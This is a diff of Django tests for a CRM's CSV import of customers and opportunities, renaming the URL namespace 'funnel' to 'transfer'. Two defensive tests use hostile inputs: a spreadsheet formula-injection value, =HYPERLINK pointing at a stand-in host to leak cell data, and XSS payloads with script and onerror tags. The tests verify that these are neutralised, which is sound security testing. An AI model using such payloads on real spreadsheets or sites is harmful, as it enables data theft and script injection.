@@ -24,7 +24,7 @@ OPPORTUNITY_HEADER = "name,customer,owner,stage,amount,expected_close_date,sourc
 def upload(client, text: str | bytes, kind: str = "opportunities", name: str = "deals.csv", **headers):
     content = text.encode("utf-8") if isinstance(text, str) else text
     data = {"kind": kind, "file": SimpleUploadedFile(name, content, content_type="text/csv")}
-    return client.post(reverse("funnel:import_start"), data, **headers)
+    return client.post(reverse("transfer:import_start"), data, **headers)
 
 
 def uploaded(client, text: str, kind: str = "opportunities") -> ImportBatch:
@@ -36,12 +36,12 @@ def uploaded(client, text: str, kind: str = "opportunities") -> ImportBatch:
 def confirm(client, batch: ImportBatch, mode: str):
     """Confirms, and runs the import job the request starts when it commits, here (JOBS_INLINE)."""
     with TestCase.captureOnCommitCallbacks(execute=True):
-        return client.post(reverse("funnel:import_confirm", args=[batch.pk]), {"mode": mode})
+        return client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": mode})
 
 
 def page_of(client, batch: ImportBatch) -> str:
     """The batch's page, its whitespace collapsed as a reader sees it."""
-    return " ".join(client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode().split())
+    return " ".join(client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode().split())
 
 
 def messages_of(response) -> list[str]:
@@ -58,27 +58,27 @@ def huaxin(rep):
 
 
 def test_upload_page_states_the_limits_and_links_the_templates(client_for, rep, pipeline):
-    response = client_for(rep).get(reverse("funnel:import_start"))
+    response = client_for(rep).get(reverse("transfer:import_start"))
     page = response.content.decode()
     assert response.status_code == 200
     assert "At most 5000 rows and 5 MB per file" in page
-    assert reverse("funnel:import_template", args=["customers"]) in page
-    assert reverse("funnel:import_template", args=["opportunities"]) in page
+    assert reverse("transfer:import_template", args=["customers"]) in page
+    assert reverse("transfer:import_template", args=["opportunities"]) in page
     assert 'enctype="multipart/form-data"' in page
 
 
 def test_template_header_lists_the_accepted_columns_in_the_users_language(client_for, rep):
-    response = client_for(rep).get(reverse("funnel:import_template", args=["customers"]))
+    response = client_for(rep).get(reverse("transfer:import_template", args=["customers"]))
     assert response["Content-Disposition"].startswith("attachment")
     assert read_csv(response) == [["name", "owner", "industry", "city", "address", "phone", "website", "notes"]]
     rep.language = "zh-hans"
     rep.save()
-    response = client_for(rep).get(reverse("funnel:import_template", args=["opportunities"]))
+    response = client_for(rep).get(reverse("transfer:import_template", args=["opportunities"]))
     assert read_csv(response)[0][:4] == ["名称", "客户", "负责人", "阶段"]
 
 
 def test_template_of_an_unknown_kind_is_404(client_for, rep):
-    assert client_for(rep).get(reverse("funnel:import_template", args=["users"])).status_code == 404
+    assert client_for(rep).get(reverse("transfer:import_template", args=["users"])).status_code == 404
 
 
 def test_upload_stores_a_batch_and_shows_its_preview(client_for, rep, teammate, pipeline, huaxin):
@@ -90,7 +90,7 @@ def test_upload_stores_a_batch_and_shows_its_preview(client_for, rep, teammate, 
         "deals.csv",
         pipeline,
     )
-    response = client.get(reverse("funnel:import_preview", args=[batch.pk]))
+    response = client.get(reverse("transfer:import_preview", args=[batch.pk]))
     page = response.content.decode()
     assert "1 valid row" in page and "1 row with problems" in page
     assert "Import the 1 valid row" in page
@@ -106,7 +106,7 @@ def test_gbk_file_with_chinese_headers_is_read(client_for, rep, pipeline):
     response = upload(client, text.encode("gbk"))
     batch = ImportBatch.objects.get()
     assert response.status_code == 302
-    page = client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
+    page = client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
     assert "1 valid row" in page and "高炉改造" in page
 
 
@@ -171,7 +171,7 @@ def test_importing_valid_rows_creates_them_and_reports_the_skipped(client_for, r
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\nB,Someone Else's,,,,,,\n")
     response = confirm(client, batch, "valid")
-    assert response.status_code == 302 and response["Location"] == reverse("funnel:import_preview", args=[batch.pk])
+    assert response.status_code == 302 and response["Location"] == reverse("transfer:import_preview", args=[batch.pk])
     assert list(Opportunity.objects.values_list("name", flat=True)) == ["A"]
     assert StageChange.objects.filter(opportunity__name="A", from_stage=None, by=rep).exists()
     page = page_of(client, batch)
@@ -195,7 +195,7 @@ def test_all_or_nothing_imports_everything_when_every_row_is_valid(client_for, m
     batch = uploaded(client, "名称,负责人,城市\n华信钢铁,r1,上海\n宝钢,,上海\n", kind="customers")
     assert (
         "Import only if every row is valid"
-        in client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
+        in client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
     )
     confirm(client, batch, "all")
     assert "2 customers imported." in page_of(client, batch)
@@ -226,12 +226,12 @@ def test_an_unknown_mode_imports_nothing(client_for, rep, pipeline, huaxin):
 def test_cancel_imports_nothing_and_leaves_a_note(client_for, rep, pipeline, huaxin):
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
-    response = client.post(reverse("funnel:import_cancel", args=[batch.pk]))
-    assert response.status_code == 302 and response["Location"] == reverse("funnel:import_start")
+    response = client.post(reverse("transfer:import_cancel", args=[batch.pk]))
+    assert response.status_code == 302 and response["Location"] == reverse("transfer:import_start")
     assert confirm(client, batch, "valid").status_code == 302
     assert not Opportunity.objects.exists()
     assert (
-        "This import was cancelled." in client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
+        "This import was cancelled." in client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
     )
 
 
@@ -241,9 +241,9 @@ def test_another_users_batch_is_404_and_cannot_be_imported(client_for, cast, pip
     batch = uploaded(client_for(cast["rep"]), OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
     client = client_for(cast[viewer])
     for name in ("import_preview", "import_errors"):
-        assert client.get(reverse(f"funnel:{name}", args=[batch.pk])).status_code == 404
+        assert client.get(reverse(f"transfer:{name}", args=[batch.pk])).status_code == 404
     for name in ("import_confirm", "import_cancel"):
-        assert client.post(reverse(f"funnel:{name}", args=[batch.pk]), {"mode": "valid"}).status_code == 404
+        assert client.post(reverse(f"transfer:{name}", args=[batch.pk]), {"mode": "valid"}).status_code == 404
     batch.refresh_from_db()
     assert batch.status == ImportBatch.Status.PREVIEWED and not Opportunity.objects.exists()
     assert AuditEvent.objects.filter(action=AuditAction.ACCESS_DENIED, object_id=str(batch.pk)).count() == 4
@@ -253,7 +253,7 @@ def test_error_report_neutralises_formula_cells(client_for, rep, pipeline):
     client = client_for(rep)
     text = OPPORTUNITY_HEADER + '"=HYPERLINK(""http://x/?""&A1)",@SUM(A1),,,,,,\n+1,-2,,,,,,\n'
     batch = uploaded(client, text)
-    response = client.get(reverse("funnel:import_errors", args=[batch.pk]))
+    response = client.get(reverse("transfer:import_errors", args=[batch.pk]))
     assert response["Content-Type"].startswith("text/csv")
     rows = read_csv(response)
     assert rows[0][:3] == ["Row", "Problems", "name"]
@@ -266,7 +266,7 @@ def test_error_report_neutralises_formula_cells(client_for, rep, pipeline):
 def test_preview_renders_stored_text_inert(client_for, rep, pipeline):
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + '<script>alert(1)</script>,"<img src=x onerror=alert(1)>",,,,,,\n')
-    page = client.get(reverse("funnel:import_preview", args=[batch.pk])).content.decode()
+    page = client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
     assert "<script>alert(1)" not in page and "<img src=x" not in page
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
 
@@ -277,7 +277,7 @@ def test_preview_shows_the_first_200_rows_in_constant_queries(
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(250)))
     with django_assert_max_num_queries(15):
-        response = client.get(reverse("funnel:import_preview", args=[batch.pk]))
+        response = client.get(reverse("transfer:import_preview", args=[batch.pk]))
     page = response.content.decode()
     assert "Showing the first 200 of 250 rows." in page
     assert "Deal 199" in page and "Deal 200" not in page
@@ -291,8 +291,8 @@ def test_the_import_runs_as_a_job_its_page_shows_progress_then_the_result(client
     settings.JOBS_INLINE = False  # the job waits for a commit that never comes inside the test's transaction
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(1200)))
-    client.post(reverse("funnel:import_confirm", args=[batch.pk]), {"mode": "valid"})  # the job has not run yet
-    progress_url = reverse("funnel:import_progress", args=[batch.pk])
+    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})  # the job has not run yet
+    progress_url = reverse("transfer:import_progress", args=[batch.pk])
     page = page_of(client, batch)
     assert "Waiting for the import to start…" in page and f'hx-get="{progress_url}"' in page
     ImportBatch.objects.filter(pk=batch.pk).update(status="importing", rows_done=500)
@@ -312,13 +312,13 @@ def test_a_stalled_import_offers_to_start_again_and_carries_on(client_for, rep, 
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
     settings.JOBS_INLINE = False
-    client.post(reverse("funnel:import_confirm", args=[batch.pk]), {"mode": "valid"})  # its worker died
+    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})  # its worker died
     settings.JOBS_INLINE = True
     assert "Start it again" not in page_of(client, batch)
     ImportBatch.objects.filter(pk=batch.pk).update(progress_at=timezone.now() - timedelta(minutes=5))
     assert "Start it again" in page_of(client, batch)
     with TestCase.captureOnCommitCallbacks(execute=True):
-        response = client.post(reverse("funnel:import_resume", args=[batch.pk]))
+        response = client.post(reverse("transfer:import_resume", args=[batch.pk]))
     assert response.status_code == 302
     assert "1 opportunity imported." in page_of(client, batch)
 
@@ -327,7 +327,7 @@ def test_resuming_a_finished_import_does_nothing(client_for, rep, pipeline, huax
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
     confirm(client, batch, "valid")
-    response = client.post(reverse("funnel:import_resume", args=[batch.pk]))
+    response = client.post(reverse("transfer:import_resume", args=[batch.pk]))
     assert messages_of(response) == ["This import is not stalled: it is still running, or it has finished."]
     assert Opportunity.objects.count() == 1
 
@@ -341,11 +341,11 @@ def test_without_a_queue_the_import_runs_on_a_thread_and_the_page_follows_it(cli
     AccountFactory(owner=rep, name="Huaxin Steel")
     client = client_for(rep)
     batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(600)))
-    client.post(reverse("funnel:import_confirm", args=[batch.pk]), {"mode": "valid"})
+    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})
     for thread in threading.enumerate():
         if thread.name.startswith("job "):
             thread.join(timeout=60)
-    assert client.get(reverse("funnel:import_progress", args=[batch.pk]), headers={"HX-Request": "true"}).headers[
+    assert client.get(reverse("transfer:import_progress", args=[batch.pk]), headers={"HX-Request": "true"}).headers[
         "HX-Refresh"
     ]
     assert "600 opportunities imported." in page_of(client, batch)
